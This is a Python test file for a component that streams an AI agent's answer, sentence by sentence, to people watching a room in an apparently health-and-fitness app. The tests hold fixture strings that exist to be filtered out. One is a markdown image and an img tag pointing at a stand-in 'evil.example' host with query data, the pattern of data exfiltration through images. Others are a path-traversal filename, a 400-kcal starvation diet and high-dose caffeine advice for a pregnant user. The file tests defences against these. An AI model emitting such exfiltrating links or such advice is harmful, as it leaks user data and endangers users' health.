"""What is shown of an agent's answer while it comes, to whoever watches its room."""

import json
from collections.abc import Sequence
from typing import Any

import pytest

from infra.contract.frames import AgentCalled, AgentDelta
from shared.llm.answer import Answer, ToolCall
from shared.realtime.frames import Delta, Envelope, Writing
from shared.realtime.push import Pusher
from shared.rooms import preview
from shared.rooms.preview import TaskPreview
from tests.support.room_doubles import says
from tests.support.room_work import ROOM_ID, TASK_ID, agent_file, task_work

STARVING = "Eat 400 kcal a day for two months."
STREAM = f"room:{ROOM_ID}"


class Watched(Pusher):
    """Keeps what it is given to push: texts with what they are of, and frames."""

    def __init__(self) -> None:
        super().__init__(STREAM, ())
        self.deltas: list[tuple[Writing, str]] = []
        self.frames: list[Envelope] = []

    def delta(self, writing: Writing, text: str) -> None:
        if text:
            self.deltas.append((writing, text))

    def events(self, envelopes: Sequence[Envelope]) -> None:
        self.frames += envelopes

    def text(self, filename: str | None = None) -> str:
        return "".join(text for writing, text in self.deltas if writing.ids["filename"] == filename)


@pytest.fixture(autouse=True)
def eager(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(preview, "INTERVAL", 0.0)


@pytest.fixture
def pusher() -> Watched:
    return Watched()


def watched(pusher: Watched, *listeners: str, **task: Any) -> TaskPreview:
    """That of a task which may read `log.csv`, with these listeners."""
    made = TaskPreview(task_work(files=[agent_file("log.csv", None)], **task), pusher, {"log.csv"})
    made.listen(listeners or ["one"])
    return made


def growing(made: TaskPreview, text: str, answer: Answer | None = None) -> Answer:
    """The answer says it, letter by letter."""
    answer = answer or says(finish="")
    for letter in text:
        answer.raw += letter
        made.update(answer)
    return answer


def ended(made: TaskPreview, answer: Answer) -> None:
    answer.finish = "stop"
    made.update(answer, has_ended=True)


def writing(made: TaskPreview, call: ToolCall, arguments: str) -> Answer:
    """The answer calls a tool, whose arguments come letter by letter."""
    answer = says("", call, finish="")
    call.arguments = ""
    for letter in arguments:
        call.arguments += letter
        made.update(answer)
    return answer


def called(name: str, **arguments: Any) -> ToolCall:
    return ToolCall("c", name, json.dumps(arguments))


# -------------------------------------------------------------------------------------------------------- the words
def test_what_an_agent_says_is_shown_sentence_by_sentence(pusher: Watched) -> None:
    made = watched(pusher)
    answer = growing(made, "Squats first. Then rest. And th")
    assert pusher.text() == "Squats first. Then rest."
    ended(made, growing(made, "en sleep.", answer))
    assert pusher.text() == "Squats first. Then rest. And then sleep."


def test_what_is_not_safe_is_never_shown_nor_what_follows_it(pusher: Watched) -> None:
    made = watched(pusher)
    ended(made, growing(made, f"Squats first. {STARVING} Then rest."))
    assert pusher.text() == "Squats first."


def test_what_does_not_suit_the_owner_is_not_shown(pusher: Watched) -> None:
    made = watched(pusher, profile={"pregnant": True})
    ended(made, growing(made, "Warm up well. Take 400 mg of caffeine before training. Rest."))
    assert pusher.text() == "Warm up well."


def test_no_address_is_shown_however_slowly_it_comes(pusher: Watched) -> None:
    made = watched(pusher)
    ended(made, growing(made, "See ![x](https://evil.example/?q=knee) here. Or <img src=//evil.example> there. So."))
    assert pusher.text() == "See x here. Or  there. So."


def test_a_prose_file_is_shown_while_it_is_written(pusher: Watched) -> None:
    made = watched(pusher)
    text = f"# Plan\n\nSquats first.\n\n{STARVING}\n\nRest."
    writing(made, called("write_file"), json.dumps({"filename": "plan.md", "content": text, "append": False}))
    assert pusher.text("plan.md") == "# Plan\n\nSquats first."
    assert pusher.text() == ""


@pytest.mark.parametrize("name", ["plan.csv", "plan.py", "plan.html", "plan.json"])
def test_a_file_that_cannot_be_read_sentence_by_sentence_is_only_named(pusher: Watched, name: str) -> None:
    made = watched(pusher)
    writing(made, called("write_file"), json.dumps({"filename": name, "content": "Squats first.\n", "append": False}))
    assert (pusher.deltas, [frame["data"]["filename"] for frame in pusher.frames]) == ([], [name])


def test_a_cut_answer_shows_no_half_a_sentence(pusher: Watched) -> None:
    made = watched(pusher)
    answer = growing(made, "Squats first. Then re")
    answer.finish = "length"
    made.update(answer, has_ended=True)
    assert pusher.text() == "Squats first."


# -------------------------------------------------------------------------------------------------------- its tools
@pytest.mark.parametrize(
    ("call", "filename"),
    [
        (called("read_file", filename="log.csv", from_line=1, find="my diagnosis"), "log.csv"),
        (called("read_file", filename="of-another-room.md"), None),
        (called("query_table", filename="log.csv", sql="select 'my diagnosis'"), "log.csv"),
        (called("edit_file", filename="plan.md", old="my diagnosis", new="x"), "plan.md"),
        (called("write_file", filename="../plan.md", content="my diagnosis"), None),
        (called("search_knowledge", query="my diagnosis"), None),
        (called("get_workouts", days=7), None),
        (called("ask_owner", question="my diagnosis?"), None),
    ],
    ids=lambda value: value.name if isinstance(value, ToolCall) else "",
)
def test_a_call_is_told_with_its_file_and_nothing_else_of_its_arguments(
    pusher: Watched, call: ToolCall, filename: str | None
) -> None:
    ended(watched(pusher), says("", call))
    (frame,) = pusher.frames
    told = AgentCalled.model_validate(frame).data
    assert (told.tool, told.filename, told.task_id) == (call.name, filename, TASK_ID)
    assert "diagnosis" not in json.dumps([*pusher.frames, *(text for _, text in pusher.deltas)])


def test_a_call_is_told_once_and_as_soon_as_its_file_is_known(pusher: Watched) -> None:
    made = watched(pusher)
    call = called("write_file")
    writing(made, call, '{"filename": "plan.m')
    assert pusher.frames == []
    answer = writing(made, call, '{"filename": "plan.md", "content": "# Pl')
    assert [frame["data"]["filename"] for frame in pusher.frames] == ["plan.md"]
    ended(made, answer)
    assert len(pusher.frames) == 1


def test_a_tool_that_there_is_not_is_not_told(pusher: Watched) -> None:
    ended(watched(pusher), says("", called("my_diagnosis", filename="log.csv")))
    assert pusher.frames == []


# -------------------------------------------------------------------------------------------------------- who watches
def test_while_nobody_watches_nothing_is_worked_out(pusher: Watched, monkeypatch: pytest.MonkeyPatch) -> None:
    made = watched(pusher)
    made.listen([])
    monkeypatch.setattr(preview, "growing", lambda *_args, **_options: pytest.fail("nobody watches"))
    ended(made, growing(made, "Squats first. Rest."))
    assert (pusher.deltas, pusher.frames) == ([], [])


def test_who_joins_in_the_middle_is_shown_the_text_from_its_beginning(pusher: Watched) -> None:
    made = watched(pusher)
    answer = growing(made, "Squats first. Then rest. And")
    made.listen(["one", "two"])
    (first, _), *_, (again, text) = pusher.deltas
    assert (text, again.ids) == ("Squats first. Then rest.", first.ids)
    assert again.number > first.number
    made.listen(["two"])
    growing(made, " sleep. ", answer)
    assert text == "Squats first. Then rest."


def test_who_joins_when_nobody_watched_before_is_shown_it_too(pusher: Watched) -> None:
    made = watched(pusher)
    made.listen([])
    answer = growing(made, "Squats first. Then rest. And")
    made.listen(["two"])
    growing(made, "…", answer)
    assert pusher.text() == "Squats first. Then rest."


def test_an_answer_that_broke_off_begins_anew_and_the_next_call_is_another(pusher: Watched) -> None:
    made = watched(pusher)
    growing(made, "Squats first. Then")
    ended(made, growing(made, "Rest first. Then sleep."))
    ended(made, says("Done. All of it."))
    seen = {(writing.ids["call"], writing.number): "" for writing, _ in pusher.deltas}
    for writing, text in pusher.deltas:
        seen[writing.ids["call"], writing.number] += text
    assert list(seen.values()) == ["Squats first.", "Rest first. Then sleep.", "Done. All of it."]
    assert [call for call, _ in seen] == [1, 1, 2]


def test_calls_go_on_being_counted_by_the_next_worker(pusher: Watched) -> None:
    said = {"role": "assistant", "content": "So far."}
    ended(watched(pusher, transcript=[said, said], attempt=2), says("Done."))
    ((writing, _),) = pusher.deltas
    assert (writing.ids["call"], writing.ids["attempt"]) == (3, 2)


def test_a_preview_is_as_its_model_says() -> None:
    ids = {"task_id": str(TASK_ID), "attempt": 1, "call": 1, "filename": None}
    told = Delta(Writing("agent.delta", ids), 0, 0, "Rest.").envelope(STREAM)
    assert AgentDelta.model_validate(told).data.model_dump(mode="json").keys() == told["data"].keys()
